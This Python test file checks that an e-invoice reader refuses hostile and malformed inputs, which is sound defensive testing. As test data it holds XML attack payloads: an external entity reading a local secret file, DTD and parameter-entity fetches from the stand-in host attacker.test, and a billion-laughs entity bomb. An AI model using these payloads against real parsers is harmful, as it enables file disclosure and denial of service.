"""Files that mean harm, or are broken, or are something else."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from purchasing.einvoices import Syntax, UnreadableDocument, read_document
from tests.purchasing.einvoice_files import cii, pdf, ubl

BOMB = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' if level else '<!ENTITY l0 "lol">'
    for level in range(10)
)


def refusal_of(content, filename="invoice.xml"):
    with pytest.raises(UnreadableDocument) as refusal:
        read_document(content, filename=filename)
    return refusal.value


def with_declaration(declaration, reference):
    head, rest = ubl(number=reference).split(b"\n", 1)
    return head + b"\n" + declaration.encode() + rest


def test_an_entity_that_reads_a_file_of_ours_is_not_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("S3CRET")

    refusal = refusal_of(
        with_declaration(f'<!DOCTYPE a [<!ENTITY x SYSTEM "{secret.as_uri()}">]>', "R&x;")
    )

    assert refusal.code == "XML_ENTITIES"
    assert "S3CRET" not in str(refusal)


@pytest.mark.parametrize(
    ("declaration", "reference"),
    [
        ('<!DOCTYPE a SYSTEM "http://attacker.test/a.dtd">', "R-1"),
        ('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.test/a.dtd"> %x;]>', "R-1"),
        (f"<!DOCTYPE a [{BOMB}]>", "&l9;"),
        ('<!DOCTYPE a [<!ENTITY x "harmless">]>', "&x;"),
        ("<!DOCTYPE a>", "R-1"),
    ],
    ids=["external type", "parameter entity", "billion laughs", "one entity", "bare type"],
)
def test_a_declared_type_or_entity_is_refused_at_once(declaration, reference):
    started = time.perf_counter()

    refusal = refusal_of(with_declaration(declaration, reference))

    assert refusal.code == "XML_ENTITIES"
    assert time.perf_counter() - started < 2


def test_an_entity_in_another_encoding_is_refused_too():
    text = with_declaration('<!DOCTYPE a [<!ENTITY x "y">]>', "&x;").decode()

    refusal = refusal_of(text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))

    assert refusal.code == "XML_ENTITIES"


def test_a_hundred_megabytes_are_refused_before_anything_is_parsed():
    content = ubl() + b" " * (100 * 1024 * 1024)
    started = time.perf_counter()

    refusal = refusal_of(content)

    assert refusal.code == "FILE_TOO_LARGE"
    assert "100 MB" in refusal.message
    assert time.perf_counter() - started < 0.1


@pytest.mark.parametrize("levels", [61, 250, 100_000])
def test_deep_nesting_is_refused(levels):
    assert refusal_of(b"<a>" * levels + b"</a>" * levels).code == "XML_TOO_DEEP"


def test_a_value_of_eleven_megabytes_is_refused():
    assert refusal_of(ubl(number="9" * (11 * 1024 * 1024))).code == "FILE_TOO_LARGE"


@pytest.mark.parametrize(
    "content",
    [ubl()[:-20], ubl().replace(b"<b:IssueDate>", b"<b:Issue>"), b"<a:b/>", b"<?xml?>", b"<"],
)
def test_broken_xml_is_refused(content):
    assert refusal_of(content).code == "XML_BROKEN"


def test_words_of_the_document_do_not_reach_into_our_sentences():
    content = ubl().replace(b"<b:ID>1</b:ID>", b"<b:ID>{0} {stated} %s</b:ID>")
    content = content.replace(b">10</b:InvoicedQuantity>", b">11</b:InvoicedQuantity>")

    document = read_document(content, filename="invoice.xml")

    assert [row.rule for row in document.breaks] == ["PEPPOL-EN16931-R120"]


@pytest.mark.parametrize(
    ("content", "code", "says"),
    [
        (b"", "UNKNOWN_SYNTAX", "empty"),
        (b" \n ", "UNKNOWN_SYNTAX", "empty"),
        (b"UNA:+.? 'UNB+UNOC:3'", "EDIFACT", "EDIFACT"),
        (b"<html/>", "UNKNOWN_SYNTAX", "html"),
        (b'<Invoice xmlns="urn:other"/>', "UNKNOWN_SYNTAX", "urn:other"),
        (b'<Order xmlns="urn:x"/>', "NOT_AN_INVOICE", "an order"),
        (b'<ReceiptAdvice xmlns="urn:x"/>', "NOT_AN_INVOICE", "a receipt advice"),
        (b'<Potwierdzenie xmlns="urn:x"/>', "NOT_AN_INVOICE", "KSeF"),
        (b"\x00\x01\x02", "UNKNOWN_SYNTAX", "no XML"),
    ],
)
def test_what_is_something_else_is_named(content, code, says):
    refusal = refusal_of(content)

    assert refusal.code == code
    assert says in refusal.message


def test_the_xml_is_taken_out_of_a_pdf():
    content = pdf({"terms.txt": b"none", "factur-x.xml": cii()})

    document = read_document(content, filename="invoice.pdf")

    assert (document.syntax, document.xml) == (Syntax.FACTUR_X, cii())
    assert document.invoices[0].number == "R-2"
    assert {row.rule for row in document.breaks} == {"BR-CO-25", "PDF-XMP"}


def test_of_two_invoices_in_a_pdf_the_newer_syntax_is_read_and_told():
    content = pdf({"ZUGFeRD-invoice.xml": b"<old/>", "factur-x.xml": cii()})

    document = read_document(content, filename="invoice.pdf")

    assert "PDF-SEVERAL-INVOICES" in {row.rule for row in document.breaks}
    assert document.invoices[0].number == "R-2"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf(), "PDF_WITHOUT_DATA"),
        (pdf({"terms.txt": b"none"}), "PDF_WITHOUT_DATA"),
        (pdf({"factur-x.xml": cii()}, password="12345"), "PDF_ENCRYPTED"),
        (pdf({"factur-x.xml": cii()})[:400], "PDF_BROKEN"),
        (b"%PDF-1.7\nnothing more", "PDF_BROKEN"),
        (pdf({"factur-x.xml": b"<a"}), "XML_BROKEN"),
        (pdf({"order-x.xml": b"<SCRDMCCBDACIOMessageStructure/>"}), "NOT_AN_INVOICE"),
        (
            pdf({"factur-x.xml": f"<!DOCTYPE a [{BOMB}]><a>&l9;</a>".encode()}),
            "XML_ENTITIES",
        ),
    ],
    ids=["no file", "no XML", "password", "cut", "empty", "broken XML", "order", "bomb"],
)
def test_a_pdf_without_an_invoice_says_why(content, code):
    assert refusal_of(content, "invoice.pdf").code == code


def test_a_pdf_that_anybody_may_open_is_read_however_it_is_locked():
    content = pdf({"factur-x.xml": cii()}, password="")

    assert read_document(content, filename="invoice.pdf").invoices[0].number == "R-2"


@settings(max_examples=60, deadline=None)
@given(
    st.binary(max_size=400)
    | st.binary(max_size=200).map(b"%PDF-1.7\n".__add__)
    | st.text(max_size=200).map(lambda text: ubl(number="@").replace(b"@", text.encode()))
    | st.tuples(st.integers(0, len(ubl())), st.binary(max_size=20)).map(
        lambda cut: ubl()[: cut[0]] + cut[1] + ubl()[cut[0] :]
    )
)
def test_no_bytes_raise_anything_but_a_refusal_by_name(content):
    try:
        document = read_document(content, filename="invoice.xml")
    except UnreadableDocument as refusal:
        outcome = refusal.code
    else:
        outcome = document.invoices[0].number

    assert outcome


def test_comments_do_not_cut_values():
    root = etree.fromstring(ubl(number="R<!-- x -->-1"))

    document = read_document(etree.tostring(root), filename="invoice.xml")

    assert document.invoices[0].number == "R-1"
